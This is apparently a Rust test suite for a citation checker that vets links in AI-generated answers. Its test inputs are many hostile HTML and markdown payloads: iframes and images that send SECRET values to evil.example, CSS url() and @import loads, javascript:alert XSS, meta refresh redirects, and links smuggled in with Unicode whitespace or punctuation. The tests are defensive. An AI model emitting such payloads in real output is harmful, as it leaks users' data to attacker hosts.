//! Addresses that a hostile answer must not hide from the citation check.

use textsearch_kernel::{
    citations::{CitationKind, Sources, check_citations},
    textsearch_core::TextSearchResult,
};

fn sources() -> Sources {
    let results = [
        TextSearchResult::new("a").with_name("Known 1").with_link("https://known.example/1"),
        TextSearchResult::new("b").with_name("The licence").with_link("LICENSE"),
        TextSearchResult::new("c").with_link("https://host.example"),
    ];
    results.iter().collect()
}

fn unsupported(answer: &str) -> Vec<String> {
    let citations = check_citations(answer, &sources());
    citations
        .into_iter()
        .filter(|citation| !citation.is_supported())
        .map(|citation| citation.target)
        .collect()
}

fn first_source(answer: &str) -> Option<usize> {
    check_citations(answer, &sources()).first().unwrap().source
}

#[track_caller]
fn assert_reports(answer: &str, target: &str) {
    let targets = unsupported(answer);
    assert!(targets.iter().any(|reported| reported == target), "{answer}: {targets:?}");
}

#[track_caller]
fn assert_refused(answer: &str) {
    let citations = check_citations(answer, &sources());
    let refused = citations.iter().find(|citation| citation.kind == CitationKind::Html);
    assert!(refused.is_some_and(|citation| !citation.is_supported()), "{answer}: {citations:?}");
}

#[test]
fn markup_that_continues_in_markdown_is_refused() {
    for answer in [
        "<iframe title='\n\n' src=//evil.example/?SECRET x",
        "<link title='\n\n' rel=stylesheet href=//evil.example/x x",
        "<div title='\n\n' onmouseover=alert(1) x",
        "<div title='\n\n`' onmouseover=alert(1) x`",
        "<div title='\n\n' style=background:url(//evil.example/x) x",
        "<div><style>\n\n{} body{background:url(//evil.example/x)}",
        "a <style> `{} body{background:url(//evil.example/x)}`",
        "<svg><a><animate attributeName=href values=\"javascript:alert(1)\"/>",
        "<svg><set attributeName=href to=\"/\\evil.example/x\"/>",
        "<meta http-equiv=refresh content=\"0;\\\\evil.example/x\">",
        "<img attributionsrc=\"\\\\evil.example/x\">",
        "<p><applet code=x></p>",
    ] {
        assert_refused(answer);
    }
}

#[test]
fn non_ascii_white_space_is_part_of_a_link() {
    for answer in [
        "See https://host.example\u{a0}@evil.example/x",
        "See https://known.example/1\u{a0}?q=SECRET",
        "![](https://known.example/1\u{2000}\u{2001}\u{2000})",
        "[x](<https://known.example/1\u{2003}>)",
    ] {
        assert_ne!(unsupported(answer), [""; 0], "{answer}");
    }
}

#[test]
fn a_link_to_any_host_counts_in_text() {
    for link in [
        "https://пример.рф/x",
        "https://evil.中国/x",
        "https://a_b.evil.example/y",
        "http://2130706433/x",
        "HTTPS://evil_.example",
        "http://[::1]/x",
        "www.evil_x.example/y",
    ] {
        for answer in [format!("See {link}"), format!("(see **{link}**)"), format!("<p>{link}</p>")]
        {
            assert_eq!(unsupported(&answer), [link], "{answer}");
        }
    }
}

#[test]
fn html_that_loads_resources_is_refused() {
    for answer in [
        "<div style=\"background:url(//evil.example/x)\">a</div>",
        "<b style=\"background:\\75rl(/\\/evil.example/x)\">a</b>",
        "<b style='background:image-set(\"/x.png\" 1x)'>a</b>",
        "<style>\n@import '//evil.example/x';\n</style>",
        "so <style>@import url(/x.css);</style>",
        "<img data-src=//evil.example/x>",
        "<meta http-equiv=refresh content=\"0; url=/x\">",
    ] {
        assert_refused(answer);
    }
}

#[test]
fn a_word_that_equals_a_file_link_is_no_support() {
    let source = |definition: &str| first_source(&format!("So.[^1]\n\n[^1]: {definition}\n"));
    assert_eq!(source("Smith 2019, under the LICENSE of Nature."), None);
    assert_eq!(source("Smith 2019, under the LICENSE/ of Nature."), None);
    assert_eq!(source("Smith 2019, under the LICENSE#/ of Nature."), None);
    assert_eq!(source("LICENSE"), Some(2));
    assert_eq!(source("`LICENSE`."), Some(2));
    assert_eq!(source("./LICENSE"), Some(2));
}

#[test]
fn the_first_definition_of_a_label_counts() {
    assert_eq!(first_source("So.[^a]\n\n[^a]: Smith 2019\n\n[^a]: Known 1\n"), None);
    assert_eq!(first_source("So.[^a]\n\n[^a]: Known 1\n\n[^a]: Smith 2019\n"), Some(1));
    assert_eq!(first_source("So.[^A]\n\n[^a]: Known 1\n"), Some(1));
}

#[test]
fn separate_texts_do_not_form_one_name() {
    for definition in [
        "- Kno\n    - wn 1",
        "Kno\n\n    wn 1",
        "Kno<br>wn 1",
        "Known 1\n\n    ```\n    not\n    ```",
    ] {
        let answer = format!("So.[^a]\n\n[^a]: {definition}\n");
        assert_eq!(first_source(&answer), None, "{definition}");
    }
    for definition in ["*Known* 1", "Known\n    1", "<b>Known</b> 1"] {
        let answer = format!("So.[^a]\n\n[^a]: {definition}\n");
        assert_eq!(first_source(&answer), Some(1), "{definition}");
    }
}

#[test]
fn programs_in_html_are_never_supported() {
    let link = "https://known.example/1";
    assert_refused(&format!("<b onclick=\"location='{link}'\">x</b>"));
    assert_refused(&format!("<p onload={link}>x</p>"));
    assert_refused(&format!("<iframe srcdoc=\"{link}\">x</iframe>"));
    assert_refused("<script>\nlocation = name\n</script>");
}

#[test]
fn an_ordinary_answer_reads_the_same_in_each_dialect() {
    for answer in [
        "So.[^1]\n\n[^1]: https://known.example/1\n",
        "So.[^1]\n\n[^1]: LICENSE\n",
        "So.[^1]\n\n[^1]: [Known](https://known.example/1), page 2\n",
        "|a|b|\n|-|-|\n|https://known.example/1|b|\n|https://host.example|https://known.example/1.|\n",
        "---\ntitle: a\n---\n\nIt costs $5, not $6: https://known.example/1\n\nterm\n: what it is\n",
    ] {
        assert_eq!(unsupported(answer), [""; 0], "{answer}");
    }
}

#[test]
fn a_link_that_continues_after_punctuation_differs() {
    for link in [
        "https://known.example/1|?q=SECRET",
        "https://known.example/1\"?q=SECRET",
        "https://known.example/1)?q=SECRET",
        "https://host.example'@evil.example",
    ] {
        for answer in [format!("See {link}"), format!("({link})"), format!("_{link} x_")] {
            assert_reports(&answer, link);
        }
    }
    for answer in [
        "**https://known.example/1**.[1] [2]",
        "“https://known.example/1” \"https://known.example/1\"。",
        "- `https://known.example/1`\n- _https://known.example/1_:\n- https://known.example/1<sup>1</sup>",
    ] {
        assert_eq!(unsupported(answer), [""; 0], "{answer}");
    }
}

#[test]
fn markup_that_hides_markdown_is_refused() {
    for answer in [
        "a <!-- ![x](https://evil.example/?s) --> b",
        "<!--\n\n![x](//evil.example/?s)\n\n-->",
        "<b title=\"![x](//evil.example/?s)\">y</b>",
        "<a href=\"https://known.example/1\">x</a>",
        "<img src=https://known.example/1>",
    ] {
        assert_refused(answer);
    }
}

#[test]
fn known_links_next_to_html_stay_supported() {
    for answer in [
        "<b>See</b> <https://known.example/1> and [it](<https://known.example/1>).",
        "1 < 2, see [page](https://known.example/1) <br> again",
    ] {
        assert_eq!(unsupported(answer), [""; 0], "{answer}");
    }
}
